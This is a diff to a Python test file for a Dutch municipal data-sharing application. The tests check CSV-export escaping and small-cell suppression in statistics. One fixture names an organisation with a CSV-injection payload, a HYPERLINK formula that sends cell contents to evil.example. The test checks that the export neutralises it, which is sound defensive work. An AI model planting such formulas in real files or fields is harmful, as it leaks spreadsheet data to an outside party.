@@ -363,9 +363,38 @@ def test_other_municipality_sees_nothing(client_for, professional, dossier, scho
 
 
 def test_csv_cells_cannot_run_as_formulas():
-    from keten.sharing.views import _csv_safe
+    from keten.core.exports import cell
 
-    assert _csv_safe(["=HYPERLINK(1)", "gewoon", "@x"]) == ["'=HYPERLINK(1)", "gewoon", "'@x"]
+    assert [cell(v) for v in ["=HYPERLINK(1)", "gewoon", "@x"]] == ["'=HYPERLINK(1)", "gewoon", "'@x"]
+
+
+def test_disclosures_csv_neutralises_a_formula_in_an_organisation_name(
+    client_for, professional, officer, dossier, actor_of
+):
+    crafted = OrganisationFactory(
+        name='=HYPERLINK("https://evil.example/?"&A1,"School")', type=OrganisationType.ONDERWIJS
+    )
+    crafted_teacher = make_user(Role.PROFESSIONAL, crafted, username="juf-x")
+    _record(actor_of(professional), dossier, crafted, crafted_teacher, ["signalen"])
+    text = client_for(officer).get("/delen/verstrekkingen/export.csv").content.decode()
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""School"")"' in text
+    assert ';"=HYPERLINK' not in text
+
+
+def test_municipality_counts_hide_the_complement_of_a_small_cell(
+    client_for, professional, organisation, dossier, school, teacher, actor_of
+):
+    actor = actor_of(professional)
+    for _ in range(6):
+        _record(actor, dossier, school, teacher, ["signalen"])
+    jgz = OrganisationFactory(name="JGZ Noord", type=OrganisationType.JGZ)
+    _record(actor, dossier, jgz, make_user(Role.PROFESSIONAL, jgz, username="jgz"), ["signalen"])
+    policy = make_user(Role.BELEIDSMEDEWERKER, organisation, username="beleid")
+    body = client_for(policy).get("/delen/cijfers/").content.decode()
+    assert ">7<" in body  # the total and the one legal basis
+    # 7 - 6 would give the single disclosure to the JGZ away: both recipient types are hidden.
+    assert ">6<" not in body
+    assert body.count('x<span class="keten-visually-hidden"> (niet getoond)</span>') == 2
 
 
 def test_case_team_ends_access_early(client_for, professional, outsider, dossier, school, teacher, actor_of):
